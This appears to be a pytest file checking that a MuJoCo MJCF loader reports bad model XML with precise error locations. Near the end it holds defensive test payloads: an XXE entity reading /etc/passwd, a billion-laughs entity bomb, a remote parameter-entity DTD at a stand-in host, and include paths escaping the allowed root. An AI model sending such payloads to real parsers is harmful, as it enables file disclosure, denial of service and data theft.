"""Bad MJCF input: every problem is an MJCFError naming file, line, element and attribute."""

from __future__ import annotations

import os
import struct

import mujoco
import pytest

import flexor
from flexor import MJCFError


def _body(inner: str, head: str = "") -> str:
  return f"<mujoco>{head}\n<worldbody>\n<body name='b'>\n{inner}\n</body>\n</worldbody>\n</mujoco>"


_GOOD_BODY = "<joint name='j'/><geom size='0.1'/>"

# (test id, xml, line, element, attribute, a word the message must contain)
_CASES = [
    ("unknown_element", _body("<joint/><gem size='1'/>"), 4, "gem", None, "unrecognized element"),
    ("unknown_attribute", _body("<joint nme='x'/><geom size='1'/>"), 4, "joint", "nme",
     "unrecognized"),
    ("worldbody_attribute", "<mujoco>\n<worldbody name='w'/>\n</mujoco>", 2, "worldbody", "name",
     "unrecognized"),
    ("repeated_once_only", _body("<inertial pos='0 0 0' mass='1' diaginertia='1 1 1'/>\n"
                                 "<inertial pos='0 0 0' mass='1' diaginertia='1 1 1'/>"),
     5, "inertial", None, "at most once"),
    ("wrong_arity", _body("<joint pos='1 2'/><geom size='1'/>"), 4, "joint", "pos",
     "expected 3 numbers, got 2"),
    ("too_many_values", _body("<joint/><geom size='1 2 3 4'/>"), 4, "geom", "size",
     "expected 1 to 3 numbers, got 4"),
    ("non_numeric", _body("<joint/><geom size='0.1 abc'/>"), 4, "geom", "size", "'abc'"),
    ("nan", _body("<joint/><geom size='nan'/>"), 4, "geom", "size", "NaN"),
    ("negative_mass", _body("<joint/><geom size='1' mass='-1'/>"), 4, "geom", "mass",
     "non-negative"),
    ("negative_density", _body("<joint/><geom size='1' density='-5'/>"), 4, "geom", "density",
     "non-negative"),
    ("negative_size", _body("<joint/><geom type='box' size='1 -1 1'/>"), 4, "geom", "size",
     "size[1] must be positive"),
    ("negative_inertial_mass", _body("<joint/><inertial pos='0 0 0' mass='-1' "
                                     "diaginertia='1 1 1'/>"), 4, "inertial", "mass",
     "non-negative"),
    ("zero_axis", _body("<joint axis='0 0 0'/><geom size='1'/>"), 4, "joint", "axis",
     "zero length"),
    ("zero_quat", _body("<joint/><geom size='1' quat='0 0 0 0'/>"), 4, "geom", "quat",
     "zero norm"),
    ("zero_zaxis", _body("<joint/><geom size='1' zaxis='0 0 0'/>"), 4, "geom", "zaxis",
     "zero length"),
    ("two_orientations", _body("<joint/><geom size='1' quat='1 0 0 0' euler='0 0 0'/>"), 4,
     "geom", "euler", "multiple orientation"),
    ("fromto_sphere", _body("<joint/><geom size='1' fromto='0 0 0 1 0 0'/>"), 4, "geom",
     "fromto", "fromto requires"),
    ("bad_keyword", _body("<joint type='hinj'/><geom size='1'/>"), 4, "joint", "type",
     "invalid keyword 'hinj'"),
    ("bad_bool", _body("<joint/><geom size='1'/>", "<compiler autolimits='yes'/>"), 1,
     "compiler", "autolimits", "invalid keyword"),
    ("bad_condim", _body("<joint/><geom size='1' condim='2'/>"), 4, "geom", "condim", "condim"),
    ("zero_timestep", _body(_GOOD_BODY, "<option timestep='0'/>"), 1, "option", "timestep",
     "must be positive"),
    ("negative_timestep", _body(_GOOD_BODY, "<option timestep='-0.01'/>"), 1, "option",
     "timestep", "must be positive"),
    ("bad_integrator", _body(_GOOD_BODY, "<option integrator='Verlet'/>"), 1, "option",
     "integrator", "invalid keyword"),
    ("bad_flag", _body(_GOOD_BODY, "<option><flag contact='off'/></option>"), 1, "flag",
     "contact", "invalid keyword"),
    ("global_coordinates", _body(_GOOD_BODY, "<compiler coordinate='global'/>"), 1, "compiler",
     "coordinate", "global coordinates"),
    ("bad_eulerseq", _body("<joint/><geom size='1' euler='0 0 1'/>", "<compiler eulerseq='xyw'/>"),
     4, "geom", "euler", "eulerseq"),
    ("unknown_class", _body("<joint class='nope'/><geom size='1'/>"), 4, "joint", "class",
     "unknown default class 'nope'"),
    ("unknown_childclass", _body("<joint/><geom size='1'/><body childclass='nope'>"
                                 "<geom size='1'/></body>"), 4, "body", "childclass",
     "unknown default class"),
    ("unnamed_nested_default", "<mujoco>\n<default>\n<default>\n<joint/>\n</default>\n"
     "</default>\n</mujoco>", 3, "default", "class", "need a name"),
    ("unknown_joint", "<mujoco>" + _body(_GOOD_BODY)[8:-9] + "\n<actuator>\n"
     "<motor joint='nope'/>\n</actuator>\n</mujoco>", 9, "motor", "joint", "unknown joint 'nope'"),
    ("unknown_body", "<mujoco>" + _body(_GOOD_BODY)[8:-9] + "\n<equality>\n"
     "<connect body1='nope' anchor='0 0 0'/>\n</equality>\n</mujoco>", 9, "connect", "body1",
     "unknown body 'nope'"),
    ("unknown_tendon_joint", "<mujoco>" + _body(_GOOD_BODY)[8:-9] + "\n<tendon>\n<fixed>\n"
     "<joint joint='nope' coef='1'/>\n</fixed>\n</tendon>\n</mujoco>", 10, "joint", "joint",
     "unknown joint"),
    ("unknown_mesh", _body("<joint/><geom type='mesh' mesh='nope'/>"), 4, "geom", "mesh",
     "unknown mesh 'nope'"),
    ("missing_mesh_file", "<mujoco>\n<asset>\n<mesh file='missing.stl'/>\n</asset>\n</mujoco>", 3,
     "mesh", "file", "missing.stl"),
    ("missing_include", "<mujoco>\n<include file='missing.xml'/>\n</mujoco>", 2, "include",
     "file", "missing.xml"),
    ("mocap_with_joint", "<mujoco>\n<worldbody>\n<body mocap='true'>\n<joint/>\n<geom size='1'/>"
     "\n</body>\n</worldbody>\n</mujoco>", 3, "body", "mocap", "mocap"),
    ("massless_moving_body", _body("<joint/><site/>"), 3, "body", None, "mass"),
    ("key_size", _body(_GOOD_BODY) [:-9] + "\n<keyframe>\n<key qpos='1 2'/>\n</keyframe>\n"
     "</mujoco>", 9, "key", "qpos", "expected 1 numbers"),
    ("range_order", _body("<joint limited='true' range='1 -1'/><geom size='1'/>"), 4, "joint",
     "range", "smaller"),
    ("no_autolimits", _body("<joint range='-1 1'/><geom size='1'/>",
                            "<compiler autolimits='false'/>"), 4, "joint", "range", "limited"),
    ("repeated_name", _body("<joint name='j'/><geom size='1'/><body><joint name='j'/>"
                            "<geom size='1'/></body>"), 4, "joint", "name", "repeated joint"),
    ("default_bad_value", "<mujoco>\n<default>\n<geom size='x'/>\n</default>\n<worldbody>\n"
     "<geom/>\n</worldbody>\n</mujoco>", 3, "geom", "size", "'x'"),
]


@pytest.mark.parametrize("xml,line,element,attribute,word",
                         [pytest.param(*c[1:], id=c[0]) for c in _CASES])
def test_bad_model(tmp_path, xml, line, element, attribute, word):
  path = tmp_path / "model.xml"
  path.write_text(xml)
  with pytest.raises(MJCFError) as info:
    flexor.load_mjcf(path)
  e = info.value
  assert word in str(e), str(e)
  assert (e.file, e.line, e.element, e.attribute) == (str(path), line, element, attribute), str(e)


def test_cases_are_rejected_by_mujoco_too(tmp_path):
  """Guards 'never refuse a model MuJoCo compiles': MuJoCo rejects every bad case as well."""
  accepted = []
  for case in _CASES:
    path = tmp_path / f"{case[0]}.xml"
    path.write_text(case[1])
    try:
      mujoco.MjModel.from_xml_path(str(path))
    except Exception:  # pylint: disable=broad-except
      continue
    accepted.append(case[0])
  # MuJoCo 4.0 compiles a zero or negative timestep; flexor refuses them (see the issue).
  assert set(accepted) <= {"zero_timestep", "negative_timestep"}, accepted


def test_malformed_xml(tmp_path):
  path = tmp_path / "bad.xml"
  path.write_text("<mujoco>\n<worldbody>\n<body>\n</worldbody>\n</mujoco>")
  with pytest.raises(MJCFError, match="malformed XML") as info:
    flexor.load_mjcf(path)
  assert info.value.file == str(path) and info.value.line == 4


def test_root_element(tmp_path):
  path = tmp_path / "bad.xml"
  path.write_text("<robot/>")
  with pytest.raises(MJCFError, match="root element") as info:
    flexor.load_mjcf(path)
  assert info.value.element == "robot"


_EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE mujoco [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<mujoco model="&secret;"/>"""

_ENTITY_BOMB = """<?xml version="1.0"?>
<!DOCTYPE mujoco [
<!ENTITY a "aaaaaaaaaa">
<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
<!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
<!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">
<!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">
]>
<mujoco model="&h;"/>"""

_PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE mujoco [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<mujoco/>"""


@pytest.mark.parametrize("xml", [_EXTERNAL_ENTITY, _ENTITY_BOMB, _PARAMETER_ENTITY],
                         ids=["external_entity", "entity_bomb", "parameter_entity"])
def test_entities_refused(xml):
  with pytest.raises(MJCFError) as info:
    flexor.load_mjcf_string(xml)
  assert "entit" in str(info.value) or "DOCTYPE" in str(info.value), str(info.value)
  assert "root:" not in str(info.value)


def test_undeclared_entity_refused():
  with pytest.raises(MJCFError, match="malformed XML|entity"):
    flexor.load_mjcf_string("<mujoco model='&undefined;'/>")


def test_include_escaping_root(tmp_path):
  inner = tmp_path / "models"
  inner.mkdir()
  (tmp_path / "outside.xml").write_text("<mujoco><option timestep='0.01'/></mujoco>")
  path = inner / "model.xml"
  path.write_text("<mujoco>\n<include file='../outside.xml'/>\n</mujoco>")
  assert flexor.load_mjcf(path).opt.timestep == 0.01   # allowed without a root
  with pytest.raises(MJCFError, match="outside the allowed root") as info:
    flexor.load_mjcf(path, root=inner)
  assert (info.value.line, info.value.element, info.value.attribute) == (2, "include", "file")


def test_absolute_asset_escaping_root(tmp_path):
  inner = tmp_path / "models"
  inner.mkdir()
  path = inner / "model.xml"
  path.write_text(f"<mujoco>\n<asset>\n<mesh file='{os.path.abspath('/etc/hostname')}'/>\n"
                  "</asset>\n</mujoco>")
  with pytest.raises(MJCFError, match="outside the allowed root") as info:
    flexor.load_mjcf(path, root=inner)
  assert (info.value.line, info.value.element, info.value.attribute) == (3, "mesh", "file")


def test_recursive_include(tmp_path):
  (tmp_path / "a.xml").write_text("<mujoco>\n<include file='b.xml'/>\n</mujoco>")
  (tmp_path / "b.xml").write_text("<mujoco>\n\n<include file='a.xml'/>\n</mujoco>")
  with pytest.raises(MJCFError, match="recursive include") as info:
    flexor.load_mjcf(tmp_path / "a.xml")
  assert info.value.file == os.path.realpath(tmp_path / "b.xml") and info.value.line == 3


def test_error_in_included_file_names_that_file(tmp_path):
  (tmp_path / "part.xml").write_text("<mujoco>\n<worldbody>\n\n<geom size='-1'/>\n</worldbody>"
                                     "\n</mujoco>")
  path = tmp_path / "model.xml"
  path.write_text("<mujoco>\n<include file='part.xml'/>\n</mujoco>")
  with pytest.raises(MJCFError) as info:
    flexor.load_mjcf(path)
  assert info.value.file == os.path.realpath(tmp_path / "part.xml")
  assert (info.value.line, info.value.element, info.value.attribute) == (4, "geom", "size")


def _tetrahedron_stl() -> bytes:
  verts = [(0, 0, 0), (1, 0, 0), (0, 1, 0), (0, 0, 1)]
  faces = [(0, 2, 1), (0, 1, 3), (0, 3, 2), (1, 2, 3)]
  out = b"\0" * 80 + struct.pack("<I", len(faces))
  for f in faces:
    out += struct.pack("<3f", 0, 0, 0)
    for i in f:
      out += struct.pack("<3f", *verts[i])
    out += b"\0\0"
  return out


def test_string_with_assets_matches_mujoco():
  xml = """<mujoco>
  <include file="parts.xml"/>
  <asset><mesh name="tet" file="tet.stl"/></asset>
  <worldbody><body><freejoint/><geom type="mesh" mesh="tet"/></body></worldbody>
</mujoco>"""
  assets = {"parts.xml": b"<mujoco><option timestep='0.003'/></mujoco>",
            "tet.stl": _tetrahedron_stl()}
  ours = flexor.load_mjcf_string(xml, assets=assets)
  ref = mujoco.MjModel.from_xml_string(xml, assets)
  assert float(ours.opt.timestep) == 0.003
  assert abs(float(ours.body_mass[1]) - ref.body_mass[1]) < 1e-12 * ref.body_mass[1]


def test_string_missing_asset():
  with pytest.raises(MJCFError, match="not found in the assets") as info:
    flexor.load_mjcf_string("<mujoco>\n<include file='nope.xml'/>\n</mujoco>")
  assert (info.value.file, info.value.line, info.value.attribute) == (None, 2, "file")


def test_legacy_passive_flag():
  model = flexor.load_mjcf_string(_body(_GOOD_BODY, "<option><flag passive='disable'/></option>"))
  assert model.opt.disableflags == int(flexor.types.DisableBit.SPRING
                                       | flexor.types.DisableBit.DAMPER)


def test_missing_model_file(tmp_path):
  with pytest.raises(MJCFError, match="cannot read model file"):
    flexor.load_mjcf(tmp_path / "nope.xml")


def test_bad_mesh_file():
  xml = "<mujoco>\n<asset>\n<mesh file='bad.stl'/>\n</asset>\n</mujoco>"
  with pytest.raises(MJCFError) as info:
    flexor.load_mjcf_string(xml, assets={"bad.stl": b"not a mesh"})
  assert (info.value.line, info.value.element, info.value.attribute) == (3, "mesh", "file")
  assert str(info.value).count("<mesh>") == 1, str(info.value)
